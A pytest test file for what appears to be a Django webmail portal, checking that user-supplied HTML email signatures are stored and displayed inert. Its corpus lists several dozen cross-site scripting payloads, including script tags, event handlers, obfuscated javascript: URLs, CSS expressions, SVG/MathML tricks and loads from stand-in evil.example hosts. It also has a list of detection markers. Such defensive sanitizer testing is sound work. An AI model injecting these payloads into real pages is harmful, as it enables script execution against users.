"""An XSS corpus: whatever a user pastes, the stored signature carries nothing that runs code
or loads from elsewhere, and neither does the page that shows it."""

import html
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from webmail_settings.models import Signature
from webmail_settings.sanitize import ATTRIBUTES, TAGS

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p style=\"background-image: url('https://evil.example/track.png')\">x</p>",
    '<p style="color:red;behavior:url(x.htc)">x</p>',
    '<p style="color: \\65 xpression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<img src="http://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="/relative.gif">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">ok</a>',
    '"><script>alert(1)</script>',
    "<isindex action=javascript:alert(1) type=image>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">',
]

URL_ATTRIBUTES = {"href", "src", "action", "background", "xlink:href", "formaction", "data"}
SAFE_URL_PREFIXES = ("https://", "http://", "mailto:", "tel:")


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def elements(fragment: str):
    parser = Collector()
    parser.feed(fragment)
    parser.close()
    return parser.elements


MARKERS = ("javascript:", "vbscript:", "expression(", "url(", "data:", "@import")


def assert_inert(fragment: str, *, anywhere: bool = True) -> None:
    """Only allow-listed tags and attributes; no handler, no code URL, no external load.
    `anywhere`: the markers may not appear even as text (true for the corpus, whose payloads
    carry them only inside markup)."""
    if anywhere:
        lowered = html.unescape(fragment).lower()
        for marker in MARKERS:
            assert marker not in lowered, (marker, fragment)
    for tag, attrs in elements(fragment):
        for value in attrs.values():
            assert not any(m in value.lower() for m in MARKERS), (value, fragment)
        assert tag in TAGS, (tag, fragment)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, fragment)
            allowed = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | {"rel"}
            assert name in allowed, (tag, name, fragment)
            if tag == "img" and name == "src":
                assert value.startswith("https://"), fragment
            if name in URL_ATTRIBUTES:
                assert value.strip().lower().startswith(SAFE_URL_PREFIXES), (value, fragment)


@pytest.mark.parametrize("payload", CORPUS)
def test_stored_signature_is_inert(portal, alice, payload):
    response = portal.post(
        reverse("portal:signature_create"),
        {"identity": alice.address, "name": "x", "html": "<b>ok</b>" + payload, "text": "t"},
    )
    assert response.status_code == 302
    signature = Signature.objects.get(account=alice)
    assert_inert(signature.html)
    assert "<b>ok</b>" in signature.html

    page = portal.get(reverse("portal:signatures")).content.decode()
    for tag, attrs in elements(page):
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), attrs
        for name in URL_ATTRIBUTES & set(attrs):
            assert not attrs[name].strip().lower().startswith(("javascript", "data", "vbscript"))


def test_page_adds_no_frames_or_foreign_stylesheets(portal, alice):
    for payload in CORPUS:
        portal.post(
            reverse("portal:signature_create"),
            {"identity": alice.address, "name": "x", "html": "<b>ok</b>" + payload, "text": "t"},
        )
    page = portal.get(reverse("portal:signatures")).content.decode()
    found = elements(page)
    assert not [t for t, _ in found if t in {"iframe", "object", "embed", "svg", "math", "style"}]
    forms = [a for t, a in found if t == "form"]
    assert all(not a.get("action", "").startswith("http") for a in forms)
    links = [a for t, a in found if t == "link"]
    assert all(a.get("href", "").startswith("/static/") for a in links)
    metas = [a for t, a in found if t == "meta"]
    assert not any("http-equiv" in a for a in metas)
    bases = [t for t, _ in found if t == "base"]
    assert not bases


def test_https_image_and_links_survive(portal, alice):
    payload = (
        '<a href="https://acme.example/">ACME</a> <a href="mailto:a@a.example">mail</a> '
        '<a href="tel:+390612345">call</a> <img src="https://acme.example/logo.png" alt="logo">'
        '<p style="color:#336699;font-weight:bold">Styled</p>'
    )
    portal.post(
        reverse("portal:signature_create"),
        {"identity": alice.address, "name": "ok", "html": payload},
    )
    stored = Signature.objects.get().html
    assert 'href="https://acme.example/"' in stored
    assert 'href="mailto:a@a.example"' in stored and 'href="tel:+390612345"' in stored
    assert '<img src="https://acme.example/logo.png" alt="logo">' in stored
    assert 'style="color:#336699;font-weight:bold"' in stored
